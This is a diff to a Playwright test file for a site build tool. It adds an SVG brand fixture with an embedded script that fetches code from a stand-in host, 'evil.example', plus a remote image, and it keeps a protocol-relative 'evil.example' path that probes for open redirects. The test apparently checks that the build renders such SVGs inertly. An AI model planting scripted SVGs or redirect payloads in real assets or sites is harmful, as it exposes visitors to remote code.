@@ -1,5 +1,5 @@
 import { execFileSync } from 'node:child_process';
-import { mkdtempSync, rmSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { type Browser, expect, test } from '@playwright/test';
@@ -33,9 +33,17 @@ const PAGES = [
   '/it/operator-0',
 ];
 
+/** A drawing of the brand that runs a script and asks another host. */
+const DRAWING =
+  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><script>fetch("https://evil.example/script")</script>' +
+  '<image href="https://evil.example/a.png" width="9" height="9"/><path d="M0 0h40v20H0Z" fill="#a30"/></svg>';
+const BRAND = ['logo', 'mark', '404'];
+
 test.describe.configure({ mode: 'serial', timeout: 180_000 });
 test.beforeAll(async () => {
   await writeCatalogue(source, SAMPLE);
+  mkdirSync(join(source, 'brand'));
+  for (const name of BRAND) writeFileSync(join(source, 'brand', `${name}.svg`), DRAWING);
   const build = ['scripts/storytrace.ts', 'build', '--source', source, '--out', site];
   execFileSync(process.execPath, build, { cwd: ROOT });
 });
@@ -95,6 +103,8 @@ for (const policy of ['on', 'off'] as const)
       });
       await visitor.visit('//evil.example/it).', async (page) => {
         await expect(page.locator('[data-one-language]')).toHaveCount(1);
+        // The picture of the error page is the brand's, as pixels.
+        await expect(page.locator('img[src^="/brand/"], img[src*="404"]').first()).toBeVisible();
         await idle(page);
       });
       await visitor.follow(`/01/${gtinOf(0)}/10/L1`, (at) => /^\/(?:it|en|fr)\//.test(at));
